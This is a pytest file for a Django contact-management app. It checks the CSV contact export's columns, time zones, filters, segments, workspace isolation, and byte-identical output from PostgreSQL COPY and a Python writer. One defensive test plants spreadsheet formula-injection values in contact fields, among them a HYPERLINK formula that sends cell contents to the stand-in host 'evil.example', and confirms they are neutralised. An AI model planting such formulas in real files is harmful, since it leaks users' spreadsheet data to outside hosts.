"""The contact file (X3): its columns and values, its neutralised cells, and the same bytes
from PostgreSQL's COPY as from the Python writer."""

import datetime
from decimal import Decimal

import pytest
from django.db import connection

from comptoir.contacts.models import Contact
from comptoir.contacts.selectors import ContactFilter
from comptoir.contacts.services import segment_create
from comptoir.transfer.export_selectors import ContactSelection, contacts_selected
from comptoir.transfer.exports import contacts_csv, contacts_csv_python
from tests.contacts.helpers import make_contact, set_figures
from tests.transfer.export_helpers import (
    BOM,
    HEADER_LINE,
    KNOWN_ZOE_ROW,
    emails,
    make_zoe,
    read_csv,
)

on_postgres = pytest.mark.skipif(
    connection.vendor != "postgresql", reason="the COPY writer is PostgreSQL's"
)


def export(workspace, delimiter=",", **selection) -> bytes:
    contacts = contacts_selected(workspace=workspace, selection=ContactSelection(**selection))
    return b"".join(contacts_csv(workspace=workspace, contacts=contacts, delimiter=delimiter))


def test_a_known_contact_gives_the_hand_checked_row(workspace):
    make_zoe(workspace)

    data = export(workspace)

    assert data == BOM + (HEADER_LINE + KNOWN_ZOE_ROW).encode()


def test_a_contact_who_never_ordered_has_zero_figures_and_no_dates(workspace):
    contact = make_contact(workspace, "new@example.com")
    set_figures(contact, created_at=datetime.datetime(2026, 6, 1, 12, 0, tzinfo=datetime.UTC))

    (row,) = read_csv(export(workspace))

    assert (row["Type"], row["Email subscription status"], row["Has account"]) == (
        "prospect",
        "not subscribed",
        "no",
    )
    assert (row["Total orders"], row["Total spent"], row["Average order value"]) == (
        "0",
        "0.00",
        "0.00",
    )
    assert (row["Last order date"], row["Customer since"]) == ("", "")
    assert row["Created at"] == "2026-06-01T14:00:00+02:00"
    assert row["Tags"] == row["Shipping city"] == ""


@pytest.mark.parametrize(
    "consent, shown",
    [
        ("subscribed", "subscribed"),
        ("unsubscribed", "unsubscribed"),
        ("not_subscribed", "not subscribed"),
        ("pending", "not subscribed"),  # a double opt-in not confirmed yet
    ],
)
def test_the_subscription_status_reads_as_the_format_says(workspace, consent, shown):
    set_figures(make_contact(workspace, "a@example.com"), consent=consent)

    (row,) = read_csv(export(workspace))

    assert row["Email subscription status"] == shown


def test_dates_are_in_the_workspace_time_zone(workspace):
    workspace.time_zone = "America/St_Johns"  # UTC-02:30 in summer
    workspace.save()
    contact = make_contact(workspace, "a@example.com")
    set_figures(contact, created_at=datetime.datetime(2026, 7, 1, 12, 0, tzinfo=datetime.UTC))

    (row,) = read_csv(export(workspace))

    assert row["Created at"] == "2026-07-01T09:30:00-02:30"


def test_formulas_are_neutralised_with_an_apostrophe(workspace):
    make_contact(
        workspace,
        "formula@example.com",
        first_name='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        last_name="-2+3",
        company="@SUM(A1:A9)",
        tags=["=cmd"],
        shipping_address={"city": "+Lyon", "line1": "Plain street"},
    )

    (row,) = read_csv(export(workspace))

    assert row["First name"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert row["Last name"] == "'-2+3"
    assert row["Company"] == "'@SUM(A1:A9)"
    assert row["Tags"] == "'=cmd"
    assert row["Shipping city"] == "'+Lyon"
    assert row["Shipping address 1"] == "Plain street"


def test_the_semicolon_variant_for_french_excel(workspace):
    make_zoe(workspace)

    data = export(workspace, delimiter=";")

    assert data.startswith(BOM + b"Email;First name;Last name;Phone;")
    (row,) = read_csv(data, delimiter=";")
    assert row["Tags"] == "alpha, Marché, vip"
    assert row["Shipping address 2"] == "Bât. B, 2e étage"
    assert data.endswith(b"France;'+33 6 12 34 56 78;;;;;;;;\r\n")


def test_notes_are_never_exported(workspace):
    make_zoe(workspace)

    data = export(workspace)

    assert b"Secret" not in data and b"favour" not in data
    assert "Notes" not in read_csv(data)[0] and "Note" not in read_csv(data)[0]


def test_a_filter_exports_exactly_the_contacts_the_list_shows(workspace):
    vip = make_contact(workspace, "vip@example.com", tags=["VIP"])
    set_figures(vip, orders=2, spent="300")
    make_contact(workspace, "vip-small@example.com", tags=["VIP"])
    set_figures(make_contact(workspace, "big@example.com"), orders=5, spent="900")

    flt = ContactFilter(tag=["vip"], min_total_spent=Decimal("100"))

    assert emails(export(workspace, filter=flt)) == ["vip@example.com"]


def test_a_segment_exports_its_contacts(workspace):
    regular = set_figures(make_contact(workspace, "regular@example.com"), orders=3, spent="90")
    set_figures(make_contact(workspace, "once@example.com"), orders=1, spent="10")
    smart = segment_create(
        workspace=workspace, name="Regulars", actor=None, filter={"min_orders": 2}
    )
    group = segment_create(
        workspace=workspace, name="Picked", kind="static", actor=None, contact_ids=[regular.pk]
    )

    assert emails(export(workspace, filter=ContactFilter(segment=str(smart.pk)))) == [
        "regular@example.com"
    ]
    assert emails(export(workspace, filter=ContactFilter(segment=str(group.pk)))) == [
        "regular@example.com"
    ]
    assert emails(export(workspace, filter=ContactFilter(segment="repeat_customers"))) == [
        "regular@example.com"
    ]


def test_a_selection_exports_the_ticked_contacts_only(workspace, other_workspace):
    first = make_contact(workspace, "first@example.com")
    make_contact(workspace, "second@example.com")
    third = make_contact(workspace, "third@example.com")
    theirs = make_contact(other_workspace, "theirs@example.com")

    data = export(workspace, ids=(third.pk, first.pk, theirs.pk))

    assert emails(data) == ["first@example.com", "third@example.com"]


def test_every_contact_of_the_workspace_and_none_of_another(workspace, other_workspace):
    make_contact(other_workspace, "theirs@example.com")
    mine = [make_contact(workspace, f"c{n}@example.com").email for n in range(5)]

    assert emails(export(workspace)) == mine


# Cells that tell a CSV writer's rules apart: quotes, both delimiters, line breaks inside a
# cell, leading white space and formula characters, an empty text, non-Latin letters.
AWKWARD = [
    {"first_name": 'Jean "Jojo"', "last_name": "O'Neil; Jr", "company": "A, B"},
    {"first_name": "\tTabbed", "last_name": " spaced ", "company": "Ligne 1\nLigne 2"},
    {"first_name": "Ελένη", "last_name": "李", "company": "\r\nCRLF"},
    {"first_name": "", "last_name": "", "company": "=1+1", "language": "-"},
]


def _awkward_contacts(workspace):
    # Written past the services' cleaning: files and stores of earlier versions hold such text.
    for n, details in enumerate(AWKWARD):
        contact = make_contact(workspace, f"awkward{n}@example.com", tags=TAGS[: n + 1])
        set_figures(contact, orders=n, spent=f"{n * 1000.5}")
        set_figures(
            contact,
            consent=Contact.Consent.values[n % 4],
            has_account=bool(n % 2),
            shipping_address={"line1": details["company"], "city": "Quimper; Finistère"},
            **details,
        )
    make_contact(workspace, phone="+33 1 23 45 67 89")  # phone only: no address at all


TAGS = ["Zèbre", "abc", "ABD", "été"]


@on_postgres
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_copy_and_python_writers_give_the_same_bytes(workspace, delimiter):
    _awkward_contacts(workspace)
    make_zoe(workspace)
    contacts = contacts_selected(workspace=workspace, selection=ContactSelection())

    copied = b"".join(contacts_csv(workspace=workspace, contacts=contacts, delimiter=delimiter))
    written = b"".join(
        contacts_csv_python(workspace=workspace, contacts=contacts, delimiter=delimiter)
    )

    assert copied == written
    assert len(read_csv(copied, delimiter)) == 6


@on_postgres
def test_the_copy_leaves_the_connection_in_utc(workspace):
    make_zoe(workspace)
    contacts = contacts_selected(workspace=workspace, selection=ContactSelection())

    b"".join(contacts_csv(workspace=workspace, contacts=contacts))

    with connection.cursor() as cursor:
        cursor.execute("SELECT current_setting('TimeZone')")
        assert cursor.fetchone()[0] == "UTC"
    assert Contact.objects.get(email="zoe@example.com").created_at == datetime.datetime(
        2025, 1, 2, 3, 4, 5, tzinfo=datetime.UTC
    )


def test_a_filter_nobody_can_match_gives_the_header_only(workspace):
    make_zoe(workspace)

    data = export(workspace, filter=ContactFilter(tag=["no such tag"]))

    assert data == BOM + HEADER_LINE.encode()


@on_postgres
def test_a_download_abandoned_half_way_leaves_the_connection_usable(workspace):
    # Given more contacts than one block of the COPY writer
    Contact.objects.bulk_create(
        Contact(workspace=workspace, email=f"c{n}@example.com", email_key=f"c{n}@example.com")
        for n in range(3000)
    )
    contacts = contacts_selected(workspace=workspace, selection=ContactSelection())
    stream = contacts_csv(workspace=workspace, contacts=contacts)

    # When the person closes the connection after the first rows
    next(stream), next(stream)
    stream.close()

    # Then the database connection serves the next request, in UTC
    with connection.cursor() as cursor:
        cursor.execute("SELECT current_setting('TimeZone')")
        assert cursor.fetchone()[0] == "UTC"
    assert Contact.objects.filter(workspace=workspace).count() == 3000
